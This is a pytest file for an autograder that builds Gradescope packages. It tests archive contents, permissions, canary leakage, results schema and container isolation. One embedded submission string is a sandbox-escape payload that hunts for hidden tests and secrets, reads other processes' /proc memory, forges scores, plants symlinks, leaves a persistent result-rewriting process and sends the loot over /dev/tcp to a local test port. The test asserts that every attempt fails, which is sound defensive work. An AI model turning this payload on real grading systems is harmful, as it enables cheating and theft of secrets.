"""The Gradescope package: what is in the zip, and what it does in a container without namespaces."""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from autograder.cli import main
from autograder.course import CourseError, create_folder
from autograder.gradescope import results_file
from autograder.gradescope.package import requirements, write_package
from autograder.results import GRADED, Result, TaskResult, TestResult
from autograder.sandbox import Isolation
from container import CAPABILITIES, run_in_container
from gradescope_container import SCHEMA, Gradescope, packaged_course
from toy_course import CANARY, release, solved

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="Gradescope's containers run as root")
UID_LEVEL = Isolation(False, True, True, True, True, True, True, True)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    made = packaged_course(tmp_path_factory.mktemp("gradescope") / "course")
    mistakes = made.repository / "autograder" / "mistakes" / "01_toy"
    mistakes.mkdir(parents=True)
    (mistakes / "wrong.py").write_text(f"# {CANARY}\n")
    return made


@pytest.fixture(scope="module")
def package(course, tmp_path_factory):
    path = tmp_path_factory.mktemp("package") / "toy.zip"
    write_package(course, course.assignment("01_toy"), path)
    return path


def test_the_archive_has_what_gradescope_looks_for_at_its_root(package):
    with zipfile.ZipFile(package) as archive:
        modes = {info.filename: info.external_attr >> 16 for info in archive.infolist()}
        assert archive.testzip() is None
    for name in ("setup.sh", "run_autograder"):
        assert stat.S_IMODE(modes[name]) == 0o700
    assert {"course.toml", "constraints.txt", "requirements.txt", "gradescope.json"} <= set(modes)
    assert "autograder/hidden_tests/test_01_toy.py" in modes
    assert "assignments/01_toy/01_toy.ipynb" in modes
    assert "lib/steerlab/tiny/checkpoint/model.safetensors" in modes


def test_nobody_but_root_may_read_what_is_unpacked_nor_the_archive(package):
    assert stat.S_IMODE(package.stat().st_mode) == 0o600
    with zipfile.ZipFile(package) as archive:
        assert not any((info.external_attr >> 16) & 0o077 for info in archive.infolist())


def test_solutions_mistakes_and_people_stay_at_home(package):
    with zipfile.ZipFile(package) as archive:
        for name in archive.namelist():
            first = Path(name).parts
            assert "solutions" not in first
            assert "mistakes" not in first
            assert "example_class" not in first
            assert "tests" not in first
            if "hidden_tests" not in first:
                assert CANARY.encode() not in archive.read(name), name


def test_a_canary_in_anything_but_the_hidden_tests_stops_the_package(course, tmp_path):
    path = course.release_notebook("01_toy")
    before = path.read_text()
    try:
        path.write_text(before.replace("A toy assignment", f"A toy assignment {CANARY}"))
        with pytest.raises(CourseError, match="canary"):
            write_package(course, course.assignment("01_toy"), tmp_path / "leaky.zip")
    finally:
        path.write_text(before)
    assert not list(tmp_path.iterdir())


def test_marks_agree_with_the_course_folder_whose_secret_is_given(course, tmp_path):
    folder = create_folder(tmp_path / "class", course.repository)
    write_package(course, course.assignment("01_toy"), tmp_path / "a.zip", folder)
    write_package(course, course.assignment("01_toy"), tmp_path / "b.zip")
    secrets = []
    for name in ("a.zip", "b.zip"):
        with zipfile.ZipFile(tmp_path / name) as archive:
            secrets.append(json.loads(archive.read("gradescope.json"))["secret"])
    assert bytes.fromhex(secrets[0]) == folder.secret
    assert secrets[1] not in ("", secrets[0])


def test_the_requirements_are_both_packages_needs_without_themselves(course):
    lines = requirements(course).splitlines()
    names = {line.split(">")[0] for line in lines}
    assert {"torch", "nbgrader", "pyseccomp"} <= names
    assert not names & {"steerlab", "autograder"}
    assert lines == sorted(lines)


def test_the_command_says_that_the_zip_is_private(course, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    repository = ["--repository", str(course.repository)]
    assert main([*repository, "gradescope-package", "01_toy"]) == 0
    said = capsys.readouterr().out
    assert "keep it private" in said
    assert "5 points are automatic" in said
    assert (tmp_path / "01_toy-gradescope.zip").is_file()
    assert main([*repository, "gradescope-package", "02_none"]) == 2


@pytest.mark.parametrize("name", ["setup.sh", "run_autograder"])
def test_the_scripts_are_good_shell(package, tmp_path, name):
    with zipfile.ZipFile(package) as archive:
        archive.extract(name, tmp_path)
    subprocess.run(["bash", "-n", tmp_path / name], check=True)


def test_results_follow_the_specification():
    tests = (TestResult("test_a", 1, True), TestResult("test_b", 1, False, "Mind the sign."))
    task = TaskResult("double", 2, 1.0, tests)
    result = Result("k", "01_toy", GRADED, tasks=(task,), record={"environment": {"python": "3"}})
    from autograder.course import Assignment

    assignment = Assignment("01_toy", "Toy", {"double": 2.0}, {"written": 1.0})
    content = results_file.graded(result, assignment, UID_LEVEL, 12.7)
    jsonschema.validate(content, SCHEMA)
    (test,) = content["tests"]
    assert (test["score"], test["max_score"], test["status"]) == (1.0, 2, "failed")
    assert "Mind the sign." in test["output"]
    assert content["score"] == 1.0
    assert content["stdout_visibility"] == "hidden"
    assert content["extra_data"]["isolation"]["level"] == "uid"


def test_ungraded_is_no_score_and_says_why():
    content = results_file.ungraded("no second user.", None, 0.2)
    jsonschema.validate(content, SCHEMA)
    assert "score" not in content
    assert "tests" not in content
    assert content["output"].startswith("Ungraded: no second user.")


# In a container: root, Docker's capabilities, no new namespaces, the network left open.


@pytest.fixture(scope="module")
def gradescope(package, tmp_path_factory) -> Gradescope:
    return Gradescope(tmp_path_factory.mktemp("container") / "autograder", package)


@needs_root
def test_a_good_submission_gets_everything(gradescope, course):
    content = gradescope.run(solved(course))
    assert content["score"] == 5, gradescope.said
    assert [test["score"] for test in content["tests"]] == [2, 3]
    assert content["extra_data"]["isolation"]["level"] == "uid"
    assert "Isolation: uid" in gradescope.said


@needs_root
def test_the_untouched_release_gets_nothing(gradescope, course):
    content = gradescope.run(release(course))
    assert content["score"] == 0
    assert {test["status"] for test in content["tests"]} == {"failed"}


@needs_root
def test_a_submission_without_a_notebook_is_ungraded(gradescope):
    content = gradescope.run(None)
    assert "score" not in content
    assert "There is no notebook" in content["output"]


ATTACKS = """
import glob, json, os, socket, subprocess, sys, time
loot, places = [], ["/autograder", "/autograder/source", "/autograder/submission", "/tmp", "/opt"]
for place in places + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/autograder"):
    for folder, _, names in os.walk(place):
        for name in names:
            try:
                text = open(os.path.join(folder, name), errors="replace").read(200_000)
            except OSError:
                continue
            if "doubles_a_positive" in text or "secret" in name + text[:200]:
                loot.append(text)
for pid in range(1, 200):
    for name in ("environ", "mem", "maps", "cmdline"):
        if pid == os.getpid(): continue
        try: loot.append(open(f"/proc/{pid}/{name}", errors="replace").read(1000) and f"{pid} {name}")
        except OSError: pass
forged = json.dumps({"score": 1000, "tests": []})
def forge():
    for path in ("/autograder/results/results.json", "/autograder/results/first.json"):
        for flags in ("w", "a"):
            try: open(path, flags).write(forged); loot.append("wrote " + path)
            except OSError: pass
        try: os.replace(path, path + ".gone"); loot.append("renamed " + path)
        except OSError: pass
    for path in ("/autograder/results", "/autograder/source/autograder/hidden_tests", "/lab"):
        try: os.symlink("/etc/passwd", path + "/planted"); loot.append("linked in " + path)
        except OSError: pass
forge()
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        caller = socket.socket(socket.AF_INET, kind)
        caller.connect(("127.0.0.1", PORT))
        caller.send(repr(loot).encode() or b"x")
    except OSError:
        pass
subprocess.run(["sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/PORT; echo out >&3"], capture_output=True)
subprocess.run(["bash", "-c", "echo out > /dev/tcp/127.0.0.1/PORT"], capture_output=True)
lasting = '''
import os, signal, time
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try: open("/autograder/results/results.json", "w").write('{"score": 1000}')
            except OSError: pass
            time.sleep(0.01)
'''
subprocess.Popen([sys.executable, "-c", lasting], start_new_session=True)
threads = set(map(int, os.listdir("/proc/self/task")))
for pid in set(range(1, 300)) - threads:
    try: os.kill(pid, 19)
    except OSError: pass
print(loot)
def double(x):
    return loot if loot else 0
"""


@pytest.fixture
def caught() -> Iterator[tuple[int, list[bytes]]]:
    """A server on the machine's own network: its port, and what anybody sent to it."""
    got: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        ended = threading.Event()

        def serve() -> None:
            while not ended.is_set():
                try:
                    caller, _ = server.accept()
                except TimeoutError:
                    continue
                with caller:
                    caller.settimeout(1)
                    got.append(caller.recv(1 << 16) or b"connected")

        thread = threading.Thread(target=serve)
        thread.start()
        yield server.getsockname()[1], got
        ended.set()
        thread.join()


@needs_root
def test_reading_forging_outliving_and_phoning_home_gain_nothing(gradescope, course, caught):
    port, got = caught
    notebook = release(course)
    cell = next(c for c in notebook.cells if c.source.startswith("# graded: 01_toy/double"))
    cell.source = "# graded: 01_toy/double\n" + ATTACKS.replace("PORT", str(port))
    left = "sleep 2; for p in /proc/[0-9]*; do stat -c 'owner %u' $p; done"
    content = gradescope.run(notebook, after=left)
    assert content["score"] == 0, gradescope.said
    assert got == []
    owners = {line for line in gradescope.said.splitlines() if line.startswith("owner")}
    assert owners == {"owner 0"}
    results = gradescope.root / "results"
    assert sorted(path.name for path in results.iterdir()) == ["first.json", "results.json"]


@needs_root
def test_the_server_of_the_attack_test_can_be_reached_from_the_container(caught):
    port, got = caught
    run_in_container(["bash", "-c", f"echo out > /dev/tcp/127.0.0.1/{port}"])
    for _ in range(50):
        if got:
            break
        threading.Event().wait(0.1)
    assert got == [b"out\n"]


@needs_root
@pytest.mark.parametrize(
    "kinds",
    [
        {"capabilities": tuple(name for name in CAPABILITIES if name != "SETUID")},
        {"deny": ("prctl",)},
    ],
    ids=["no change of user", "no filter"],
)
def test_without_another_user_or_a_filter_it_is_ungraded_and_never_a_score(
    gradescope, course, kinds: dict[str, Any]
):
    content = gradescope.run(solved(course), **kinds)
    assert "score" not in content
    assert "tests" not in content
    assert content["output"].startswith("Ungraded: Students' code cannot be kept apart here")


@needs_root
def test_broken_hidden_tests_are_told_to_instructors_alone(gradescope, course):
    tests = gradescope.root / "source" / "autograder" / "hidden_tests" / "test_01_toy.py"
    before = tests.read_text()
    try:
        tests.write_text("secret_input = 12345\nraise RuntimeError(f'{secret_input}')\n")
        content = gradescope.run(solved(course))
    finally:
        tests.write_text(before)
    assert "score" not in content
    assert "12345" not in json.dumps(content)
    assert "hidden tests are broken" in content["output"]
